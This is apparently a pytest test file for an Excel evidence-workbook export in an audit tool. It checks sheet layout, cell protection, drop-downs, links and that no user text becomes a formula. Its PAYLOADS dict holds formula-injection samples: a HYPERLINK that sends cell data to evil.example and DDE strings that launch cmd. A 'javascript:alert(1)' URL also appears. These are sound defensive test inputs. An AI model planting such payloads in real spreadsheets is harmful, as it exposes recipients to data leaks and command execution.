"""The evidence workbook as written: sheets, protection, drop-downs, links, and no formula injection."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import zipfile

import pytest
from excel_helpers import FIXTURES, column, exported, make_data, mini_assessment, open_book, row_of

from labelnr import formatting
from labelnr.assessment import (
    Answer,
    AuditorVerdict,
    Campaign,
    Commitment,
    EvidenceRef,
    NotApplicable,
    Period,
    RefPin,
)
from labelnr.excel._cells import DANGEROUS_PREFIXES, sheet_name
from labelnr.excel.from_file import workbook_data
from labelnr.excel.meta import LISTS_SHEET, META_SHEET
from labelnr.excel.model import EvidenceEntry, HistoryEntry
from labelnr.loader import LoadedReferential, load_referential
from labelnr.referential import EvidenceType, Referential
from labelnr.scoring import score

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
_ESCAPE = re.compile(r"_x(00[01][0-9A-Fa-f])_")


def _plain(value: object) -> object:
    """openpyxl leaves Excel's _xHHHH_ escapes of control characters in place."""
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value


def test_every_dangerous_prefix_has_a_payload() -> None:
    assert set(PAYLOADS) == set(DANGEROUS_PREFIXES)


def _hostile(loaded: LoadedReferential, text: str) -> bytes:
    a = mini_assessment()
    answers = dict(a.answers)
    answers["A-1"] = Answer(
        level="partial",
        comment=text,
        owner=text,
        evidence=[EvidenceRef(type="result", title=text, file="preuve.pdf")],
    )
    answers["A-2"] = Answer(not_applicable=NotApplicable(reason="x", justification=text))
    a = a.model_copy(
        update={
            "answers": answers,
            "verdicts": {"A-1": AuditorVerdict(verdict="partial", comment=text)},
            "commitments": [Commitment(title=text, criterion="A-1", target_year=1, owner=text)],
            "organisation": a.organisation.model_copy(update={"name": text}),
            "entity": a.entity.model_copy(update={"name": text}),
            "campaign": a.campaign.model_copy(update={"name": text}),
        }
    )
    history = (
        HistoryEntry(dt.datetime(2025, 2, 2, tzinfo=dt.UTC), text, "answer", "A-1", "comment", text, text),
    )
    return exported(make_data(loaded, a, history=history, exported_by=text))


@pytest.mark.parametrize("prefix", list(PAYLOADS), ids=[repr(p) for p in PAYLOADS])
def test_user_text_is_never_a_formula(mini: LoadedReferential, prefix: str) -> None:
    text = PAYLOADS[prefix]
    content = _hostile(mini, text)
    book = open_book(content)
    theme = book.worksheets[2]
    checked = {
        (theme.title, f"{column('comment')}{row_of(content, theme.title, 'A-1')}"),
        (theme.title, f"{column('owner')}{row_of(content, theme.title, 'A-1')}"),
        (theme.title, f"{column('verdict_comment')}{row_of(content, theme.title, 'A-1')}"),
        (theme.title, f"{column('na_justification')}{row_of(content, theme.title, 'A-2')}"),
        ("Preuves", "D2"),  # evidence title
        ("Plan d'action", "A2"),  # commitment title
        ("Plan d'action", "E2"),  # commitment owner
        ("Historique", "B2"),
        ("Historique", "F2"),
        ("Historique", "G2"),  # actor, old, new
    }
    for sheet, ref in checked:
        cell = book[sheet][ref]
        assert cell.data_type == "s", (sheet, ref, cell.data_type)
        assert _plain(cell.value) == text, (sheet, ref)
        assert cell.quotePrefix, (sheet, ref)  # stays text if someone edits it in Excel
    # Nowhere in the workbook is there a formula, whatever the column.
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_sheets_in_order_with_the_hidden_ones_last(mini: LoadedReferential) -> None:
    book = open_book(exported(make_data(mini)))
    assert book.sheetnames == [
        "À propos",
        "Synthèse",
        "Thème A",
        "Thème B",
        "Preuves",
        "Plan d'action",
        "Trajectoire",
        "Historique",
        LISTS_SHEET,
        META_SHEET,
    ]
    states = {ws.title: ws.sheet_state for ws in book.worksheets}
    assert states[LISTS_SHEET] == states[META_SHEET] == "hidden"
    assert all(state == "visible" for name, state in states.items() if name not in (LISTS_SHEET, META_SHEET))


def test_english_option(mini: LoadedReferential) -> None:
    book = open_book(exported(make_data(mini, lang="en")))
    assert book.sheetnames[:2] == ["About", "Summary"]
    theme = book["Theme A"]
    assert theme["A1"].value == "Criterion"
    assert theme[f"{column('verdict')}1"].value == "Auditor's verdict"
    assert theme[f"{column('answer')}2"].value == "Partial"


def test_criteria_sheet_layout(mini: LoadedReferential) -> None:
    content = exported(make_data(mini))
    book = open_book(content)
    ws = book["Thème A"]
    assert ws.freeze_panes == "B2"
    assert list(ws.tables) == ["criteria_1"]
    assert ws.tables["criteria_1"].ref == f"A1:{column('verified_points')}3"
    assert ws.column_dimensions[column("comment")].width > 30
    row = row_of(content, "Thème A", "A-1")
    assert ws[f"{column('answer')}{row}"].value == "Partielle"
    assert ws[f"{column('verdict')}{row}"].value == "Partiellement conforme"
    assert ws[f"{column('verdict_comment')}{row}"].value == "À compléter"
    assert ws[f"{column('comment')}{row}"].alignment.wrap_text
    link = ws[f"{column('evidence_link')}{row}"]
    assert link.hyperlink.target == "https://example.org/politique.pdf"
    na_row = row_of(content, "Thème A", "A-2")
    assert ws[f"{column('answer')}{na_row}"].value == "Non applicable"
    assert ws[f"{column('na_justification')}{na_row}"].value == "Pas de salle serveur"


def test_only_the_cells_a_reimport_reads_are_unlocked(mini: LoadedReferential) -> None:
    content = exported(make_data(mini))
    book = open_book(content)
    for ws in book.worksheets:
        assert ws.protection.sheet, ws.title
        assert not ws.protection.password, ws.title
    ws = book["Thème A"]
    editable = {"answer", "na_justification", "comment", "owner", "verdict", "verdict_comment"}
    for key in ("id", "title", "points", "evidence", "sha256", *editable):
        cell = ws[f"{column(key)}2"]
        assert cell.protection.locked == (key not in editable), key


def test_submitted_campaign_unlocks_only_the_auditor_columns(mini: LoadedReferential) -> None:
    book = open_book(exported(make_data(mini, status="submitted")))
    ws = book["Thème A"]
    assert ws[f"{column('answer')}2"].protection.locked
    assert ws[f"{column('comment')}2"].protection.locked
    assert not ws[f"{column('verdict')}2"].protection.locked
    assert not ws[f"{column('verdict_comment')}2"].protection.locked
    sources = {dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
    assert sources == [f"{LISTS_SHEET}!$C$1:$C$4"] or sources == {f"{LISTS_SHEET}!$C$1:$C$4"}


def test_audited_campaign_is_entirely_locked(mini: LoadedReferential) -> None:
    book = open_book(exported(make_data(mini, status="audited")))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.protection.locked, (ws.title, cell.coordinate)


def test_drop_downs_hold_the_referentials_values(mini: LoadedReferential) -> None:
    book = open_book(exported(make_data(mini)))
    lists = book[LISTS_SHEET]
    scale = [c.value for c in lists["A"] if c.value]
    assert scale == ["Aucune", "Partielle", "Complète", "À évaluer"]
    assert [c.value for c in lists["B"] if c.value] == [*scale, "Non applicable"]
    assert [c.value for c in lists["C"] if c.value] == [
        "Conforme",
        "Partiellement conforme",
        "Non conforme",
        "Non vérifié",
    ]
    ws = book["Thème A"]
    by_column: dict[str, set[str]] = {}
    for dv in ws.data_validations.dataValidation:
        for ref in str(dv.sqref).split():
            by_column.setdefault(re.sub(r"\d", "", ref.split(":")[0]), set()).add(f"{dv.type}:{dv.formula1}")
    assert by_column[column("verdict")] == {f"list:{LISTS_SHEET}!$C$1:$C$4"}
    # A-1 does not allow N/A, A-2 does: each row gets the list it may use.
    assert by_column[column("answer")] == {f"list:{LISTS_SHEET}!$A$1:$A$4", f"list:{LISTS_SHEET}!$B$1:$B$5"}
    assert by_column[column("comment")] == {"textLength:8000"}


def test_evidence_sheet_links_and_hashes(mini: LoadedReferential) -> None:
    sha = "ab" * 32
    entries = (
        EvidenceEntry("A-1", EvidenceType.DOCUMENTATION, "Politique", url="https://example.org/p.pdf"),
        EvidenceEntry(
            "A-1",
            EvidenceType.RESULT,
            "Rapport",
            file_name="rapport 2025.pdf",
            sha256=sha,
            size=1234,
            effective_date=dt.date(2025, 1, 2),
        ),
        EvidenceEntry("B-1", EvidenceType.MEANS, "Lien douteux", url="javascript:alert(1)"),
    )
    content = exported(make_data(mini, evidence=entries))
    book = open_book(content)
    ws = book["Preuves"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == ["A-1", "A-1", "B-1"]
    assert ws["E2"].hyperlink.target == "https://example.org/p.pdf"
    # A relative link into the evidence pack (XlsxWriter writes Windows separators; Excel and
    # LibreOffice both resolve them next to the workbook).
    assert ws["E3"].hyperlink.target == f"evidence\\{sha}\\rapport_2025.pdf"
    assert ws["E4"].hyperlink is None  # only http(s) addresses become links
    assert ws["E4"].value == "javascript:alert(1)"
    assert ws["G3"].value == sha
    assert ws["H3"].value == 1234
    assert ws["I3"].value == dt.datetime(2025, 1, 2)
    theme = book["Thème A"]
    row = row_of(content, "Thème A", "A-1")
    several = theme[f"{column('evidence_link')}{row}"]
    assert several.value == "2 preuves → feuille Preuves"
    assert several.hyperlink.location == "'Preuves'!A2"
    assert theme[f"{column('sha256')}{row}"].value == sha


def test_each_evidence_date_is_formatted_once(
    mini: LoadedReferential, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 10,000 evidence rows formatted one by one through Babel cost more than writing them.
    calls: list[dt.date] = []
    real = formatting.format_date

    def counted(value: dt.date, lang: str | None = None, style: str = "long") -> str:
        calls.append(value)
        return real(value, lang, style)

    monkeypatch.setattr("labelnr.excel._sheets.format_date", counted)
    days = (dt.date(2025, 1, 2), dt.date(2025, 1, 3))
    entries = tuple(
        EvidenceEntry(
            "A-1",
            EvidenceType.RESULT,
            f"Preuve {i}",
            url=f"https://x.example/{i}",
            effective_date=days[i % 2],
        )
        for i in range(6)
    )
    content = exported(make_data(mini, evidence=entries))
    assert sorted(calls) == list(days)
    cell = open_book(content)["Thème A"][f"{column('evidence')}{row_of(content, 'Thème A', 'A-1')}"]
    assert cell.value.splitlines() == [
        f"[résultat] Preuve {i} ({2 + i % 2} janvier 2025)" for i in range(6)
    ]


def test_summary_and_about_carry_provenance(mini: LoadedReferential) -> None:
    data = make_data(mini)
    book = open_book(exported(data))
    about = {row[0]: row[1] for row in book["À propos"].iter_rows(values_only=True) if row[0]}
    assert about["Référentiel"] == "Mini (mini)"
    assert about["SHA-256 du fichier du référentiel"] == mini.sha256
    assert about["Version de l'application"] == data.app_version
    assert about["Généré par"] == "tester@example.org"
    assert about["Généré le (UTC)"] == dt.datetime(2025, 3, 1, 9, 30)
    links = {c.value: c.hyperlink.location for c in book["À propos"]["A"] if c.hyperlink}
    assert links["Plan d'action"] == "'Plan d''action'!A1"  # quotes in a sheet name are doubled
    assert links["Thème A"] == "'Thème A'!A1"
    assert len(links) == 8
    summary = {row[0]: row[1:3] for row in book["Synthèse"].iter_rows(values_only=True) if row[0]}
    assert summary["Points (sur 1\u202f000)"] == (  # French groups thousands
        pytest.approx(data.self_scores.points, abs=1e-3),
        pytest.approx(data.verified_scores.points, abs=1e-3),
    )
    assert len(summary["Somme de contrôle (SHA-256)"][0]) == 64
    assert book.custom_doc_props["labelnr_campaign_id"].value == "mini-baseline.yaml"
    assert book.custom_doc_props["labelnr_referential"].value == "mini@1"


def test_trajectory_has_a_native_chart_and_its_table(mini: LoadedReferential) -> None:
    content = exported(make_data(mini))
    book = open_book(content)
    ws = book["Trajectoire"]
    rows = list(ws.iter_rows(min_row=1, max_row=5, values_only=True))
    assert rows[0][:4] == ("Année", "Prévu (cibles)", "Projeté (engagements)", "Réel (auto-évalué)")
    assert [r[0] for r in rows[1:]] == ["État initial", "Année 1", "Année 2", "Année 3"]
    planned = [r[1] for r in rows[1:]]
    assert planned == sorted(planned)
    assert planned[-1] > planned[0]
    assert rows[1][3] == pytest.approx(make_data(mini).self_scores.points, abs=1e-3)
    assert rows[2][3] is None  # no year-1 campaign held yet
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        assert b"<c:lineChart>" in archive.read(charts[0])


def test_sheet_names_are_valid_and_unique() -> None:
    taken: set[str] = set()
    assert sheet_name("Achats / fin de vie: [équipements]?", taken) == "Achats - fin de vie- -équipemen"
    assert sheet_name("Achats / fin de vie: [équipements]?", taken) == "Achats - fin de vie- -équip (2)"
    assert sheet_name("'", taken) == "Sheet"
    assert all(len(n) <= 31 for n in taken)


def test_as_of_workbook_is_read_only(mini: LoadedReferential) -> None:
    data = dataclasses.replace(make_data(mini), as_of=dt.date(2025, 2, 15))
    book = open_book(exported(data))
    about = {row[0]: row[1] for row in book["À propos"].iter_rows(values_only=True) if row[0]}
    assert about["Données au"] == dt.datetime(2025, 2, 15)
    assert book["Thème A"][f"{column('verdict')}2"].protection.locked


def test_real_referential_and_demo_file(real_catalog: object) -> None:
    from pathlib import Path

    from labelnr.excel.from_file import from_path
    from labelnr.loader import Catalog

    assert isinstance(real_catalog, Catalog)
    demo = Path(__file__).resolve().parents[2] / "audits" / "hexapost-group-year1.yaml"
    data = from_path(demo, real_catalog, "tester")
    book = open_book(exported(data))
    theme_sheets = book.sheetnames[2:-6]
    assert len(theme_sheets) == len({c.theme for c in data.criteria})
    listed = [row[0] for name in theme_sheets for row in book[name].iter_rows(min_row=2, values_only=True)]
    assert listed == [c.id for c in data.criteria]
    assert len(data.actual) == 2  # the baseline file next to it gives the other actual point


def test_summary_says_undefined_when_nothing_applies(mini: LoadedReferential) -> None:
    # Every criterion N/A: no score at all, written so (not 0 points, not 0 %), per theme too.
    data = mini.referential.model_dump()
    for crit in data["criteria"]:
        crit["not_applicable"] = {"allowed": True}
    every = Referential.model_validate(data)
    nothing = score(every, {cid: Answer(not_applicable=NotApplicable(reason="x", justification="y"))
                            for cid in every.criteria_by_id})
    book = open_book(exported(make_data(mini, self_scores=nothing, verified_scores=nothing)))
    summary = {row[0]: row[1:3] for row in book["Synthèse"].iter_rows(values_only=True) if row[0]}
    undefined = ("non défini (aucun critère applicable)",) * 2
    assert summary["Points (sur 1\u202f000)"] == undefined
    assert summary["Pourcentage"] == undefined
    assert summary["Thème A"] == undefined


def test_status_referential_shows_priority_and_weight_not_level(mini: LoadedReferential) -> None:
    # rgesn-mini: no label levels, priorities weighing 1.5 / 1.25 / 1. "Niveau 1 / Obligatoire Non"
    # would mean nothing there; Label NR-like mini keeps them, with its weights (2, 1, 1).
    rgesn = load_referential(FIXTURES / "rgesn-mini.yaml")
    assessment = mini_assessment(referential=RefPin(id="rgesn-mini", version="2024"), answers={
        "1.1": Answer(level="validated"), "1.2": Answer(level="in_progress")}, verdicts={}, commitments=[],
        targets={})
    content = exported(make_data(rgesn, assessment))
    ws = open_book(content)["Stratégie"]
    headers = [c.value for c in ws[1]]
    assert headers[:6] == ["Critère", "Principe", "Intitulé", "Description", "Priorité", "Poids"]
    assert "Niveau" not in headers
    assert "Obligatoire" not in headers
    row = row_of(content, "Stratégie", "1.2")
    assert ws[f"{column('priority', rgesn.referential)}{row}"].value == "Recommandé"
    assert ws[f"{column('weight', rgesn.referential)}{row}"].value == 1.25
    mini_headers = [c.value for c in open_book(exported(make_data(mini)))["Thème A"][1]]
    assert mini_headers[4:7] == ["Poids", "Niveau", "Obligatoire"]


def test_trajectory_projects_from_the_latest_campaign_held(mini: LoadedReferential) -> None:
    # Baseline: A-1 partial (375 of theme a's 750; A-2 N/A), B-1 none → 375. Year 1 held: B-1 full
    # → 625. Kept, the year-1 commitment (A-1 full) gives 1000 from year 1, not 750 from the baseline.
    base = mini_assessment()
    year1 = base.model_copy(update={
        "campaign": Campaign(period=Period.YEAR1, date=dt.date(2026, 2, 1)),
        "answers": {**base.answers, "B-1": Answer(level="full")}})
    data = workbook_data(base, mini, campaign_id="mini-baseline.yaml", exported_by="t", others=[year1])
    rows = list(open_book(exported(data))["Trajectoire"].iter_rows(min_row=2, max_row=5, values_only=True))
    assert [r[2] for r in rows] == [pytest.approx(375), pytest.approx(1000), pytest.approx(1000),
                                    pytest.approx(1000)]
    assert [r[3] for r in rows][:2] == [pytest.approx(375), pytest.approx(625)]
